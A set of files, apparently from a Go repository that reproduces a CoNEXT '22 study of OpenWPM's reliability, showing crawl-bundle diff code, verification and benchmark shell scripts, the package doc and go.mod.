		len(v.JSSymbols) == 0 &&
		len(v.CookiesOnlyInA) == 0 && len(v.CookiesOnlyInB) == 0 &&
		len(v.TampersOnlyInA) == 0 && len(v.TampersOnlyInB) == 0
}

// Empty reports whether the two bundles are observationally identical.
func (d *DiffReport) Empty() bool {
	return len(d.ConfigChanges) == 0 && !d.ReportsDiffer &&
		d.CrashesA == d.CrashesB &&
		len(d.OnlyInA) == 0 && len(d.OnlyInB) == 0 && len(d.Visits) == 0
}

// visitKey identifies a visit within a bundle: site, page, and the
// occurrence index for pages visited more than once.
func visitKey(v Visit, occurrence int) string {
	return fmt.Sprintf("%s|%s|%d", v.Record.Site, v.Record.SiteURL, occurrence)
}

// outcomeOf renders a visit outcome for comparison.
func outcomeOf(v Visit) string {
	switch {
	case v.Record.OK:
		return "ok"
	case v.Record.Salvaged:
		return "salvaged:" + v.Record.ErrorClass
	case v.Record.ErrorClass != "":
		return v.Record.ErrorClass
	default:
		return "error"
	}
}

// indexVisits keys a bundle's visits, numbering repeat visits to a page.
func indexVisits(b *Bundle) (map[string]Visit, []string) {
	seen := map[string]int{}
	out := map[string]Visit{}
	var order []string
	for _, v := range b.Visits {
		page := v.Record.Site + "|" + v.Record.SiteURL
		k := visitKey(v, seen[page])
		seen[page]++
		out[k] = v
		order = append(order, k)
	}
	return out, order
}

// sortedDelta compares two count maps and splits the differences into keys
// over-represented in a and in b, each sorted.
func sortedDelta(a, b map[string]int) (onlyA, onlyB []string) {
	for k, na := range a {
		if nb := b[k]; na > nb {
			onlyA = append(onlyA, k)
		}
	}
	for k, nb := range b {
		if na := a[k]; nb > na {
			onlyB = append(onlyB, k)
		}
	}
	sort.Strings(onlyA)
	sort.Strings(onlyB)
	return onlyA, onlyB
}

// diffVisit compares one visit across the two bundles.
func diffVisit(key string, va, vb Visit) VisitDiff {
	d := VisitDiff{Key: key}

	if oa, ob := outcomeOf(va), outcomeOf(vb); oa != ob {
		d.OutcomeA, d.OutcomeB = oa, ob
	}

	// request-count deltas, body digests and statuses by "METHOD url"
	reqA, reqB := map[string]int{}, map[string]int{}
	bodyA, bodyB := map[string]string{}, map[string]string{}
	statA, statB := map[string]int{}, map[string]int{}
	index := func(v Visit, req map[string]int, body map[string]string, stat map[string]int) {
		for _, e := range v.Exchanges {
			k := e.Method + " " + e.URL
			req[k]++
			if e.BodySHA != "" {
				body[e.URL] = e.BodySHA
			}
			if e.Status != 0 {
				stat[k] = e.Status
			}
		}
	}
	index(va, reqA, bodyA, statA)
	index(vb, reqB, bodyB, statB)
	d.RequestsOnlyInA, d.RequestsOnlyInB = sortedDelta(reqA, reqB)
	for url, sa := range bodyA {
		if sb, ok := bodyB[url]; ok && sa != sb {
			d.BodyChanged = append(d.BodyChanged, url)
		}
	}
	sort.Strings(d.BodyChanged)
	for k, sa := range statA {
		if sb, ok := statB[k]; ok && sa != sb {
			d.StatusChanged = append(d.StatusChanged, fmt.Sprintf("%s: %d → %d", k, sa, sb))
		}
	}
	sort.Strings(d.StatusChanged)

	// per-symbol JS call counts
	symA, symB := map[string]int{}, map[string]int{}
	for _, c := range va.JSCalls {
		symA[c.Symbol]++
	}
	for _, c := range vb.JSCalls {
		symB[c.Symbol]++
	}
	syms := map[string]bool{}
	for s := range symA {
		syms[s] = true
	}
	for s := range symB {
		syms[s] = true
	}
	for s := range syms {
		if symA[s] != symB[s] {
			d.JSSymbols = append(d.JSSymbols, SymbolDelta{Symbol: s, A: symA[s], B: symB[s]})
		}
	}
	sort.Slice(d.JSSymbols, func(i, j int) bool { return d.JSSymbols[i].Symbol < d.JSSymbols[j].Symbol })

	// cookie stores by domain:name
	ckA, ckB := map[string]int{}, map[string]int{}
	for _, c := range va.Cookies {
		ckA[c.Domain+":"+c.Name]++
	}
	for _, c := range vb.Cookies {
		ckB[c.Domain+":"+c.Name]++
	}
	d.CookiesOnlyInA, d.CookiesOnlyInB = sortedDelta(ckA, ckB)

	// static tamper findings by sha:rule:line:detail
	tpA, tpB := map[string]int{}, map[string]int{}
	indexTampers := func(v Visit, m map[string]int) {
		for _, t := range v.Tampers {
			for _, f := range t.Findings {
				m[fmt.Sprintf("%s:%s:%d:%s", t.SHA256, f.Rule, f.Line, f.Detail)]++
			}
		}
	}
	indexTampers(va, tpA)
	indexTampers(vb, tpB)
	d.TampersOnlyInA, d.TampersOnlyInB = sortedDelta(tpA, tpB)

	return d
}

// diffConfig lists configuration fields that differ, sorted.
func diffConfig(a, b Config) []string {
	var out []string
	add := func(field string, va, vb any) {
		if va != vb {
			out = append(out, fmt.Sprintf("%s: %v → %v", field, va, vb))
		}
	}
	add("os", a.OS, b.OS)
	add("mode", a.Mode, b.Mode)
	add("firefoxVersion", a.FirefoxVersion, b.FirefoxVersion)
	add("clientID", a.ClientID, b.ClientID)
	add("dwellSeconds", a.DwellSeconds, b.DwellSeconds)
	add("jsInstrument", a.JSInstrument, b.JSInstrument)
	add("httpInstrument", a.HTTPInstrument, b.HTTPInstrument)
	add("cookieInstrument", a.CookieInstrument, b.CookieInstrument)
	add("httpFilterJSOnly", a.HTTPFilterJSOnly, b.HTTPFilterJSOnly)
	add("legacyInstrumentGlobals", a.LegacyInstrumentGlobals, b.LegacyInstrumentGlobals)
	add("honeyProps", a.HoneyProps, b.HoneyProps)
	add("stealth", a.Stealth, b.Stealth)
	add("tamperAnalysis", a.TamperAnalysis, b.TamperAnalysis)
	add("maxSubpages", a.MaxSubpages, b.MaxSubpages)
	add("simulateInteraction", a.SimulateInteraction, b.SimulateInteraction)
	add("maxRetries", a.MaxRetries, b.MaxRetries)
	add("maxVisitSeconds", a.MaxVisitSeconds, b.MaxVisitSeconds)
	add("maxCrawlSeconds", a.MaxCrawlSeconds, b.MaxCrawlSeconds)
	add("backoffBaseSeconds", a.BackoffBaseSeconds, b.BackoffBaseSeconds)
	add("backoffMaxSeconds", a.BackoffMaxSeconds, b.BackoffMaxSeconds)
	add("breakerThreshold", a.BreakerThreshold, b.BreakerThreshold)
	add("blindRetry", a.BlindRetry, b.BlindRetry)
	sort.Strings(out)
	return out
}

// Diff compares two bundles per-visit and returns the structured report.
// Visit order does not matter; visits are matched by (site, page,
// occurrence).
func Diff(a, b *Bundle) *DiffReport {
	d := &DiffReport{
		ConfigChanges: diffConfig(a.Config, b.Config),
		CrashesA:      len(a.Crashes),
		CrashesB:      len(b.Crashes),
	}
	if (a.Report == nil) != (b.Report == nil) {
		d.ReportsDiffer = true
	} else if a.Report != nil && a.Report.String() != b.Report.String() {
		d.ReportsDiffer = true
	}

	va, orderA := indexVisits(a)
	vb, orderB := indexVisits(b)
	for _, k := range orderA {
		if _, ok := vb[k]; !ok {
			d.OnlyInA = append(d.OnlyInA, k)
		}
	}
	for _, k := range orderB {
		if _, ok := va[k]; !ok {
			d.OnlyInB = append(d.OnlyInB, k)
		}
	}
	for _, k := range orderA {
		xb, ok := vb[k]
		if !ok {
			continue
		}
		if vd := diffVisit(k, va[k], xb); !vd.empty() {
			d.Visits = append(d.Visits, vd)
		}
	}
	return d
}

// maxListed caps per-section listings in String so huge diffs stay readable.
const maxListed = 10

func listCapped(sb *strings.Builder, label string, items []string) {
	if len(items) == 0 {
		return
	}
	fmt.Fprintf(sb, "  %s (%d):", label, len(items))
	for i, it := range items {
		if i >= maxListed {
			fmt.Fprintf(sb, " … +%d more", len(items)-maxListed)
			break
		}
		sb.WriteString(" " + it)
	}
	sb.WriteByte('\n')
}

// String renders the diff deterministically.
func (d *DiffReport) String() string {
	if d.Empty() {
		return "bundles identical\n"
	}
	var sb strings.Builder
	if len(d.ConfigChanges) > 0 {
		sb.WriteString("config changes:\n")
		for _, c := range d.ConfigChanges {
			fmt.Fprintf(&sb, "  %s\n", c)
		}
	}
	if d.ReportsDiffer {
		sb.WriteString("crawl reports differ\n")
	}
	if d.CrashesA != d.CrashesB {
		fmt.Fprintf(&sb, "crashes: %d → %d\n", d.CrashesA, d.CrashesB)
	}
	if len(d.OnlyInA) > 0 || len(d.OnlyInB) > 0 {
		sb.WriteString("visit coverage:\n")
		listCapped(&sb, "only in A", d.OnlyInA)
		listCapped(&sb, "only in B", d.OnlyInB)
	}
	fmt.Fprintf(&sb, "visits differing: %d\n", len(d.Visits))
	for i, v := range d.Visits {
		if i >= maxListed {
			fmt.Fprintf(&sb, "… +%d more visits\n", len(d.Visits)-maxListed)
			break
		}
		fmt.Fprintf(&sb, "visit %s:\n", v.Key)
		if v.OutcomeA != "" || v.OutcomeB != "" {
			fmt.Fprintf(&sb, "  outcome: %s → %s\n", v.OutcomeA, v.OutcomeB)
		}
		listCapped(&sb, "requests only in A", v.RequestsOnlyInA)
		listCapped(&sb, "requests only in B", v.RequestsOnlyInB)
		listCapped(&sb, "body changed", v.BodyChanged)
		listCapped(&sb, "status changed", v.StatusChanged)
		if len(v.JSSymbols) > 0 {
			fmt.Fprintf(&sb, "  js symbols (%d):", len(v.JSSymbols))
			for i, s := range v.JSSymbols {
				if i >= maxListed {
					fmt.Fprintf(&sb, " … +%d more", len(v.JSSymbols)-maxListed)
					break
				}
				fmt.Fprintf(&sb, " %s %d→%d", s.Symbol, s.A, s.B)
			}
			sb.WriteByte('\n')
		}
		listCapped(&sb, "cookies only in A", v.CookiesOnlyInA)
		listCapped(&sb, "cookies only in B", v.CookiesOnlyInB)
		listCapped(&sb, "tamper findings only in A", v.TampersOnlyInA)
		listCapped(&sb, "tamper findings only in B", v.TampersOnlyInB)
	}
	return sb.String()
}
