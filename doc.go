// Package gullible is a full-system Go reproduction of "How gullible are web
// measurement tools? A case study analysing and strengthening OpenWPM's
// reliability" (CoNEXT '22): a simulated Firefox with a JavaScript-subset
// interpreter, an OpenWPM-style measurement framework with its vulnerable
// vanilla instrumentation, the hardened WPM_hide variant, a deterministic
// synthetic Tranco-100K web with bot detectors and cloaking, and the full
// analysis pipeline regenerating every table and figure of the paper's
// evaluation. See README.md and DESIGN.md for the system inventory and
// EXPERIMENTS.md for paper-vs-measured results.
package gullible
