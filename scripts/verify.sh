#!/bin/sh
# Full verification: vet, build, wpmlint (baselined + self-tests + SARIF
# smoke), then the whole repo under the race detector. The experiments
# package's full synthetic-web crawls are skipped in -short mode; set
# WPM_FULL_RACE=1 to run the long tier. Plain `go test ./...` stays the quick
# tier-1 check.
set -eu
cd "$(dirname "$0")/.."

echo "== gofmt -l ."
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
    echo "gofmt needed on:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "== go vet ./..."
go vet ./...

echo "== go build ./..."
go build ./...

# wpmlint's exit codes are a contract (0 clean / 1 findings / 2 usage /
# 3 load failure) and `go run` collapses any nonzero child exit to 1, so
# build the real binary for the self-tests
wpmlint_bin=$(mktemp -d)/wpmlint
go build -o "$wpmlint_bin" ./cmd/wpmlint

echo "== wpmlint ./internal/... (reliability invariants, baselined)"
"$wpmlint_bin" -baseline .wpmlint-baseline.json ./internal/...

echo "== wpmlint self-test (fixture must fail with exit 1: findings, not a load error)"
set +e
"$wpmlint_bin" ./internal/lint/testdata/src/bad >/dev/null 2>&1
fixture_status=$?
set -e
if [ "$fixture_status" != 1 ]; then
    echo "wpmlint exited $fixture_status on the deliberate-violation fixture (want 1); the linter is broken" >&2
    exit 1
fi

echo "== wpmlint load-failure self-test (missing package must exit 3, never look clean)"
set +e
"$wpmlint_bin" ./internal/no-such-package >/dev/null 2>&1
load_status=$?
set -e
if [ "$load_status" != 3 ]; then
    echo "wpmlint exited $load_status on a missing package (want 3)" >&2
    exit 1
fi

echo "== wpmlint SARIF smoke (fixture output must match the committed golden schema)"
set +e
# run from the package dir: the golden (written by the go test) carries
# package-relative artifact URIs
(cd internal/lint && "$wpmlint_bin" -format sarif testdata/src/bad) >/tmp/wpmlint-smoke.sarif 2>/dev/null
sarif_status=$?
set -e
if [ "$sarif_status" != 1 ]; then
    echo "wpmlint -format sarif exited $sarif_status on the fixture (want 1)" >&2
    exit 1
fi
if ! diff -u internal/lint/testdata/golden/bad.sarif /tmp/wpmlint-smoke.sarif; then
    echo "SARIF output drifted from the committed golden (regenerate with: go test ./internal/lint -run TestGoldenOutput -update)" >&2
    exit 1
fi
grep -q '"version": "2.1.0"' /tmp/wpmlint-smoke.sarif
grep -q '"\$schema": "https://json.schemastore.org/sarif-2.1.0.json"' /tmp/wpmlint-smoke.sarif
rm -f /tmp/wpmlint-smoke.sarif

echo "== go test -race ./internal/analysis/... ./internal/lint/... ./internal/telemetry/... ./internal/sched/..."
go test -race ./internal/analysis/... ./internal/lint/... ./internal/telemetry/... ./internal/sched/...

echo "== go test -race ./internal/wal/... ./internal/faults/... (durable storage + fault injection)"
go test -race ./internal/wal/... ./internal/faults/...

echo "== kill-and-recover smoke (crash mid-crawl, recover from WAL, resume, compare digests)"
go test -race -run 'KillAndRecoverFromWAL|RecoverShardRebuildsStorage|TruncationProperty' ./internal/sched ./internal/wal

echo "== go test -race ./internal/daemon/... (crawl-as-a-service: cache keying, admission, drain+recover)"
go test -race ./internal/daemon/...

echo "== wpmd smoke (start, submit, poll, artifact, digest-identical cache hit, metrics, drain)"
smokedir=$(mktemp -d)
trap 'rm -rf "$smokedir"' EXIT
go run ./cmd/wpmd -smoke -dir "$smokedir/state" >/dev/null 2>&1 || {
    echo "wpmd -smoke failed; rerun without redirection for detail" >&2
    exit 1
}

echo "== wpmtrace smoke (record a traced crawl, analyse it, replay, demand an empty trace diff)"
tracedir=$(mktemp -d)
go run ./cmd/wpmscan -sites 8 -subpages 1 -workers 2 \
    -record-bundle "$tracedir/scan.bundle" -trace "$tracedir/record.trace" >/dev/null
critical=$(go run ./cmd/wpmtrace critical "$tracedir/record.trace")
echo "$critical" | grep -q "crawl" || {
    echo "wpmtrace critical path is empty or missing the crawl root:" >&2
    echo "$critical" >&2
    exit 1
}
go run ./cmd/wpmscan -sites 8 -subpages 1 -workers 2 \
    -replay-bundle "$tracedir/scan.bundle" -trace "$tracedir/replay.trace" >/dev/null
go run ./cmd/wpmtrace diff "$tracedir/record.trace" "$tracedir/replay.trace" || {
    echo "record-vs-replay traces diverge; replay determinism is broken" >&2
    exit 1
}
rm -rf "$tracedir"

echo "== VM-vs-interpreter parity smoke (500-site corpus; bundles must be byte-identical)"
vmdir=$(mktemp -d)
go run ./cmd/wpmscan -sites 500 -subpages 1 -workers 1 -vm on \
    -record-bundle "$vmdir/vm.bundle" >/dev/null
go run ./cmd/wpmscan -sites 500 -subpages 1 -workers 1 -vm off \
    -record-bundle "$vmdir/interp.bundle" >/dev/null
cmp "$vmdir/vm.bundle" "$vmdir/interp.bundle" || {
    echo "bytecode-VM and interpreter crawls produced different bundles; engine parity is broken" >&2
    exit 1
}
rm -rf "$vmdir"

# the whole repo under the race detector; experiments' full synthetic-web
# crawls are gated behind -short (several minutes each under race) — set
# WPM_FULL_RACE=1 for the long tier
if [ "${WPM_FULL_RACE:-0}" = 1 ]; then
    echo "== go test -race ./... (full, WPM_FULL_RACE=1)"
    go test -race ./...
else
    echo "== go test -race -short ./..."
    go test -race -short ./...
fi

echo "== go vet ./internal/telemetry"
go vet ./internal/telemetry

echo "== telemetry overhead benchmark (smoke)"
go test -run '^$' -bench TelemetryOverhead -benchtime 100x ./internal/telemetry

echo "== scan shard-scaling benchmark (smoke)"
SCAN_BENCHTIME=1x SCAN_COUNT=1 ./scripts/bench_scan.sh >/dev/null

echo "== WAL append-throughput benchmark (smoke)"
WAL_BENCHTIME=1x WAL_COUNT=1 ./scripts/bench_wal.sh >/dev/null

echo "== daemon cold/warm serving benchmark (smoke)"
DAEMON_BENCHTIME=1x DAEMON_COUNT=1 ./scripts/bench_daemon.sh >/dev/null

echo "== trace overhead benchmark (smoke)"
MACRO_BENCHTIME=1x MACRO_COUNT=1 ./scripts/bench_trace.sh >/dev/null

echo "verify: OK"
