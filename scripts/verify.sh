#!/bin/sh
# Full verification: vet, build, then the test suite with the race detector.
# The experiments package crawls large synthetic webs, so the race run takes
# a few minutes; plain `go test ./...` is the quick tier-1 check.
set -eu
cd "$(dirname "$0")/.."

echo "== gofmt -l ."
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
    echo "gofmt needed on:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "== go vet ./..."
go vet ./...

echo "== go build ./..."
go build ./...

echo "== wpmlint ./internal/... (determinism invariants)"
go run ./cmd/wpmlint ./internal/...

echo "== wpmlint self-test (fixture must fail)"
if go run ./cmd/wpmlint ./internal/lint/testdata/src/bad >/dev/null 2>&1; then
    echo "wpmlint passed the deliberate-violation fixture; the linter is broken" >&2
    exit 1
fi

echo "== go test -race ./internal/analysis/... ./internal/lint/... ./internal/telemetry/... ./internal/sched/..."
go test -race ./internal/analysis/... ./internal/lint/... ./internal/telemetry/... ./internal/sched/...

echo "== go test -race ./internal/wal/... ./internal/faults/... (durable storage + fault injection)"
go test -race ./internal/wal/... ./internal/faults/...

echo "== kill-and-recover smoke (crash mid-crawl, recover from WAL, resume, compare digests)"
go test -race -run 'KillAndRecoverFromWAL|RecoverShardRebuildsStorage|TruncationProperty' ./internal/sched ./internal/wal

echo "== go test -race ./internal/daemon/... (crawl-as-a-service: cache keying, admission, drain+recover)"
go test -race ./internal/daemon/...

echo "== wpmd smoke (start, submit, poll, artifact, digest-identical cache hit, metrics, drain)"
smokedir=$(mktemp -d)
trap 'rm -rf "$smokedir"' EXIT
go run ./cmd/wpmd -smoke -dir "$smokedir/state" >/dev/null 2>&1 || {
    echo "wpmd -smoke failed; rerun without redirection for detail" >&2
    exit 1
}

echo "== wpmtrace smoke (record a traced crawl, analyse it, replay, demand an empty trace diff)"
tracedir=$(mktemp -d)
go run ./cmd/wpmscan -sites 8 -subpages 1 -workers 2 \
    -record-bundle "$tracedir/scan.bundle" -trace "$tracedir/record.trace" >/dev/null
critical=$(go run ./cmd/wpmtrace critical "$tracedir/record.trace")
echo "$critical" | grep -q "crawl" || {
    echo "wpmtrace critical path is empty or missing the crawl root:" >&2
    echo "$critical" >&2
    exit 1
}
go run ./cmd/wpmscan -sites 8 -subpages 1 -workers 2 \
    -replay-bundle "$tracedir/scan.bundle" -trace "$tracedir/replay.trace" >/dev/null
go run ./cmd/wpmtrace diff "$tracedir/record.trace" "$tracedir/replay.trace" || {
    echo "record-vs-replay traces diverge; replay determinism is broken" >&2
    exit 1
}
rm -rf "$tracedir"

echo "== go test -race ./..."
go test -race ./...

echo "== go vet ./internal/telemetry"
go vet ./internal/telemetry

echo "== telemetry overhead benchmark (smoke)"
go test -run '^$' -bench TelemetryOverhead -benchtime 100x ./internal/telemetry

echo "== scan shard-scaling benchmark (smoke)"
SCAN_BENCHTIME=1x SCAN_COUNT=1 ./scripts/bench_scan.sh >/dev/null

echo "== WAL append-throughput benchmark (smoke)"
WAL_BENCHTIME=1x WAL_COUNT=1 ./scripts/bench_wal.sh >/dev/null

echo "== daemon cold/warm serving benchmark (smoke)"
DAEMON_BENCHTIME=1x DAEMON_COUNT=1 ./scripts/bench_daemon.sh >/dev/null

echo "== trace overhead benchmark (smoke)"
MACRO_BENCHTIME=1x MACRO_COUNT=1 ./scripts/bench_trace.sh >/dev/null

echo "verify: OK"
