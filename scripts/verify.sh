#!/bin/sh
# Full verification: vet, build, then the test suite with the race detector.
# The experiments package crawls large synthetic webs, so the race run takes
# a few minutes; plain `go test ./...` is the quick tier-1 check.
set -eu
cd "$(dirname "$0")/.."

echo "== go vet ./..."
go vet ./...

echo "== go build ./..."
go build ./...

echo "== go test -race ./..."
go test -race ./...

echo "verify: OK"
