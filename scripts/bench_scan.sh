#!/bin/sh
# Measures sharded scan throughput and writes BENCH_scan.json: sites/sec for
# a 500-site scan at 1 worker, 4 workers and (when different) one worker per
# CPU, plus the 4-vs-1 speedup ratio. The numbers are honest wall-clock
# throughput: on a single-core runner GOMAXPROCS pins every goroutine to one
# CPU and the worker counts tie — the determinism tests, not this benchmark,
# are what guarantee the sharded outputs match the serial ones there.
set -eu
cd "$(dirname "$0")/.."

# Give worker goroutines schedulable parallelism even when the runner
# reports one CPU: GOMAXPROCS defaults to at least 4 so the 4-worker row
# measures scheduling overhead honestly instead of serialising by fiat.
# Wall-clock speedup still requires real cores.
procs=$(nproc 2>/dev/null || getconf _NPROCESSORS_ONLN)
if [ "${GOMAXPROCS:-0}" = 0 ] && [ "$procs" -lt 4 ]; then
    export GOMAXPROCS=4
fi

out=BENCH_scan.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "== scan shard scaling: BenchmarkScanWorkers" >&2
go test -run '^$' -bench 'BenchmarkScanWorkers' \
    -benchtime "${SCAN_BENCHTIME:-1x}" -count "${SCAN_COUNT:-3}" . >"$raw"

# Render `BenchmarkScanWorkers/workers=4-8  1  2.1e9 ns/op ... 240 sites/s`
# lines as JSON, keeping the best of repeated runs per worker count.
awk -v procs="${GOMAXPROCS:-$(nproc 2>/dev/null || getconf _NPROCESSORS_ONLN)}" '
/^BenchmarkScanWorkers\// {
    name = $1
    sub(/^BenchmarkScanWorkers\/workers=/, "", name)
    sub(/-[0-9]+$/, "", name)
    for (i = 2; i < NF; i++) {
        if ($(i + 1) == "sites/s" && ($i + 0 > rate[name] + 0)) {
            rate[name] = $i
            if (!(name in order)) { order[name] = ++names; byIdx[names] = name }
        }
    }
}
END {
    printf "{\n  \"scan_sites\": 500,\n"
    printf "  \"gomaxprocs\": %d,\n", procs + 0
    printf "  \"sites_per_sec\": {"
    for (i = 1; i <= names; i++) {
        if (i > 1) printf ", "
        printf "\"%s\": %s", byIdx[i], rate[byIdx[i]]
    }
    printf "}"
    if (rate["1"] + 0 > 0 && rate["4"] + 0 > 0) {
        printf ",\n  \"speedup_4_over_1\": %.2f", rate["4"] / rate["1"]
    }
    printf "\n}\n"
}
' "$raw" >"$out"

cat "$out"
