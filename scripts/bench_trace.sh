#!/bin/sh
# Measures the trace plane's overhead and writes BENCH_trace.json: the scan
# crawl with the flight recorder detached (metrics only), fully enabled, and
# enabled with a live span tap (the wpmd SSE streaming path). The acceptance
# budget is <= 5% overhead for enabled tracing over the tracing-off baseline.
set -eu
cd "$(dirname "$0")/.."

out=BENCH_trace.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "== scan crawl: trace disabled / enabled / streamed" >&2
go test -run '^$' -bench 'BenchmarkScanCrawl(Telemetry|TraceDisabled|TraceStreamed)$' \
    -benchtime "${MACRO_BENCHTIME:-500x}" -count "${MACRO_COUNT:-3}" . >"$raw"

# Render `BenchmarkName-8  N  12.3 ns/op  ...` lines as JSON (keeping the
# best of repeated runs — the higher samples are scheduler noise), then
# price enabled and streamed tracing against the disabled baseline.
awk '
/^Benchmark/ {
    name = $1
    sub(/-[0-9]+$/, "", name)
    if (!(name in ns) || $3 + 0 < ns[name] + 0) ns[name] = $3
    if (!(name in order)) { order[name] = ++names; byIdx[names] = name }
}
BEGIN { printf "{\n" }
END {
    for (i = 1; i <= names; i++) {
        if (i > 1) printf ",\n"
        printf "  \"%s\": %s", byIdx[i], ns[byIdx[i]]
    }
    base = ns["BenchmarkScanCrawlTraceDisabled"]
    on = ns["BenchmarkScanCrawlTelemetry"]
    tap = ns["BenchmarkScanCrawlTraceStreamed"]
    if (base > 0 && on > 0) {
        printf ",\n  \"trace_enabled_overhead_percent\": %.2f", 100 * (on - base) / base
    }
    if (base > 0 && tap > 0) {
        printf ",\n  \"trace_streamed_overhead_percent\": %.2f", 100 * (tap - base) / base
    }
    printf "\n}\n"
}
' "$raw" >"$out"

cat "$out"
