#!/bin/sh
# Measures the telemetry layer's overhead and writes BENCH_telemetry.json:
#  - the disabled/enabled micro-benchmarks from internal/telemetry, and
#  - the end-to-end scan crawl with and without instrumentation
#    (BenchmarkScanCrawl vs BenchmarkScanCrawlTelemetry).
# The acceptance budget is disabled-path events in the low single-digit
# nanoseconds and <= 2% overhead on the instrumented scan crawl.
set -eu
cd "$(dirname "$0")/.."

out=BENCH_telemetry.json
micro=$(mktemp)
macro=$(mktemp)
trap 'rm -f "$micro" "$macro"' EXIT

echo "== micro: internal/telemetry" >&2
go test -run '^$' -bench TelemetryOverhead -benchtime "${MICRO_BENCHTIME:-2s}" ./internal/telemetry >"$micro"

echo "== macro: scan crawl with/without telemetry" >&2
go test -run '^$' -bench 'BenchmarkScanCrawl(Telemetry)?$' \
    -benchtime "${MACRO_BENCHTIME:-500x}" -count "${MACRO_COUNT:-3}" . >"$macro"

# Render `BenchmarkName-8  N  12.3 ns/op  ...` lines as JSON (keeping the
# best of repeated runs — the higher samples are scheduler noise), and
# compute the macro overhead ratio from the two scan benchmarks.
awk '
/^Benchmark/ {
    name = $1
    sub(/-[0-9]+$/, "", name)
    if (!(name in ns) || $3 + 0 < ns[name] + 0) ns[name] = $3
    if (!(name in order)) { order[name] = ++names; byIdx[names] = name }
}
BEGIN { printf "{\n" }
END {
    for (i = 1; i <= names; i++) {
        if (i > 1) printf ",\n"
        printf "  \"%s\": %s", byIdx[i], ns[byIdx[i]]
    }
    base = ns["BenchmarkScanCrawl"]
    tel = ns["BenchmarkScanCrawlTelemetry"]
    if (base > 0 && tel > 0) {
        printf ",\n  \"scan_enabled_overhead_percent\": %.2f", 100 * (tel - base) / base
    }
    # BenchmarkScanCrawl runs with telemetry nil, i.e. every instrumentation
    # point on its disabled path; the per-event cost above bounds the
    # disabled overhead. A visit makes O(100) telemetry calls at the
    # disabled ns/op, versus ~20ms of visit work.
    dis = ns["BenchmarkTelemetryOverheadDisabledCounter"]
    if (base > 0 && dis > 0) {
        printf ",\n  \"scan_disabled_overhead_percent\": %.4f", 100 * (dis * 100) / base
    }
    printf "\n}\n"
}
' "$micro" "$macro" >"$out"

cat "$out"
