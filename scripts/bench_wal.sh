#!/bin/sh
# Measures storage-backend append throughput and writes BENCH_wal.json:
# records/sec through the in-memory backend and through the WAL at each fsync
# policy (off / checkpoint / always), plus the WAL-vs-memory overhead ratios.
# Real files and real fsync — the "always" number is the honest price of
# per-record durability.
set -eu
cd "$(dirname "$0")/.."

out=BENCH_wal.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "== storage backend throughput: BenchmarkBackendAppend" >&2
go test -run '^$' -bench 'BenchmarkBackendAppend' \
    -benchtime "${WAL_BENCHTIME:-3x}" -count "${WAL_COUNT:-3}" ./internal/wal >"$raw"

# Render `BenchmarkBackendAppend/store=wal/fsync=off-8 ... 169419 recs/s`
# lines as JSON, keeping the best of repeated runs per configuration.
awk '
/^BenchmarkBackendAppend\// {
    name = $1
    sub(/^BenchmarkBackendAppend\/store=/, "", name)
    sub(/-[0-9]+$/, "", name)
    gsub(/\//, ".", name)
    for (i = 2; i < NF; i++) {
        if ($(i + 1) == "recs/s" && ($i + 0 > rate[name] + 0)) {
            rate[name] = $i
            if (!(name in order)) { order[name] = ++names; byIdx[names] = name }
        }
    }
}
END {
    printf "{\n  \"records_per_append_batch\": 2000,\n"
    printf "  \"records_per_sec\": {"
    for (i = 1; i <= names; i++) {
        if (i > 1) printf ", "
        printf "\"%s\": %s", byIdx[i], rate[byIdx[i]]
    }
    printf "}"
    mem = rate["memory"] + 0
    if (mem > 0) {
        printf ",\n  \"wal_overhead_vs_memory\": {"
        first = 1
        for (i = 1; i <= names; i++) {
            n = byIdx[i]
            if (n == "memory" || rate[n] + 0 <= 0) continue
            if (!first) printf ", "
            printf "\"%s\": %.1f", n, mem / rate[n]
            first = 0
        }
        printf "}"
    }
    printf "\n}\n"
}
' "$raw" >"$out"

cat "$out"
