#!/bin/sh
# Measures the wpmd daemon's serving economics and writes BENCH_daemon.json:
# cold-job latency (full admission → crawl → seal → cache path), warm-job
# latency (content-addressed cache hit), the cold/warm speedup that makes the
# cache the whole point, and the admission rejection rate under a saturated
# queue. Real daemon, real disk cache.
set -eu
cd "$(dirname "$0")/.."

out=BENCH_daemon.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "== daemon serving benchmarks: BenchmarkDaemon{ColdJob,WarmJob,Saturation}" >&2
go test -run '^$' -bench 'BenchmarkDaemon(ColdJob|WarmJob|Saturation)' \
    -benchtime "${DAEMON_BENCHTIME:-5x}" -count "${DAEMON_COUNT:-3}" ./internal/daemon >"$raw"

# Render `BenchmarkDaemonColdJob-8  5  150228892 ns/op` lines as JSON,
# keeping the best (lowest ns/op, highest rejects/op) of repeated runs.
awk '
/^BenchmarkDaemon/ {
    name = $1
    sub(/^BenchmarkDaemon/, "", name)
    sub(/-[0-9]+$/, "", name)
    for (i = 2; i < NF; i++) {
        if ($(i + 1) == "ns/op" && (!(name in ns) || $i + 0 < ns[name] + 0)) {
            ns[name] = $i
        }
        if ($(i + 1) == "rejects/op" && ($i + 0 > rej[name] + 0)) {
            rej[name] = $i
        }
    }
}
END {
    cold = ns["ColdJob"] + 0
    warm = ns["WarmJob"] + 0
    printf "{\n"
    printf "  \"cold_job_ms\": %.3f,\n", cold / 1e6
    printf "  \"warm_hit_ms\": %.3f,\n", warm / 1e6
    if (warm > 0) printf "  \"cold_over_warm_speedup\": %.0f,\n", cold / warm
    printf "  \"saturated_submit_us\": %.1f,\n", (ns["Saturation"] + 0) / 1e3
    printf "  \"saturated_reject_ratio\": %s\n", (rej["Saturation"] == "" ? "0" : rej["Saturation"])
    printf "}\n"
}
' "$raw" >"$out"

cat "$out"
