module gullible

go 1.22
