package gullible_test

// One benchmark per table and figure of the paper's evaluation (see
// DESIGN.md's per-experiment index). The two heavyweight inputs — the
// Sec. 4 detector scan and the Sec. 6.3 parallel comparison — are produced
// once per process and shared; BenchmarkScanCrawl and
// BenchmarkComparisonCrawl measure the underlying crawls themselves.

import (
	"fmt"
	"runtime"
	"sync"
	"testing"

	"gullible/internal/attacks"
	"gullible/internal/experiments"
	"gullible/internal/jsdom"
